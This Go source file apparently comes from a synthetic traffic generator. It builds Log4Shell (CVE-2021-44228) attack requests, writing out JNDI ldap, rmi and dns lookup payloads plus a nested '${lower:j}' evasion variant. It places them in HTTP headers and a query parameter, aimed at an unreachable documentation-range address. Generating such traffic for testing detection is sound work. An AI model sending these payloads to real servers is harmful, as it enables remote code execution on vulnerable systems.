package attack

import (
	"errors"

	"github.com/evilbench/evilbench/generator/dialogue"
	"github.com/evilbench/evilbench/generator/draw"
	"github.com/evilbench/evilbench/generator/packet"
)

// Log4Shell sends JNDI lookup strings (CVE-2021-44228) where servers log: nothing listens at the address they name.
type Log4Shell struct {
	Web     `yaml:",inline"`
	Evasion string `yaml:"evasion" json:"evasion"` // none, nested (the word is taken apart by inner lookups)
}

func newLog4Shell() Attack {
	return &Log4Shell{Web: Web{Rate: 1, PerConn: 1, Agent: browser}, Evasion: "none"}
}

// Validate checks the parameters.
func (a *Log4Shell) Validate() error {
	if a.Evasion != "none" && a.Evasion != "nested" {
		return errors.New("evasion: none or nested")
	}
	return a.Web.Validate()
}

// Step is one request.
func (a *Log4Shell) Step(k int, s *Site, r *draw.Stream) []packet.Conversation {
	return a.talk(k, s, r, func(i int, r *draw.Stream) dialogue.HTTPExchange {
		x := dialogue.HTTPExchange{Target: "/", Status: 200, ReplyType: "text/html", Reply: results}
		lookup := a.lookup(s, r)
		switch i % 4 {
		case 0:
			x.Header = "X-Api-Version: " + lookup + "\r\n"
		case 1:
			x.Header = "X-Forwarded-For: " + lookup + "\r\n"
		case 2:
			x.Target = "/?q=" + escape(lookup)
		default:
			x.Header = "Referer: " + lookup + "\r\n"
		}
		return x
	})
}

// lookup names an address of the documentation range (RFC 5737) that nobody answers.
func (a *Log4Shell) lookup(s *Site, r *draw.Stream) string {
	to := "198.51.100.77:1389/" + r.Letters("abcdefghijklmnopqrstuvwxyz", 6) + "}"
	if a.Evasion == "nested" {
		return "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}dap://" + to
	}
	return draw.Pick(r, []string{"${jndi:ldap://", "${jndi:ldap://", "${jndi:rmi://", "${jndi:dns://"}) + to
}
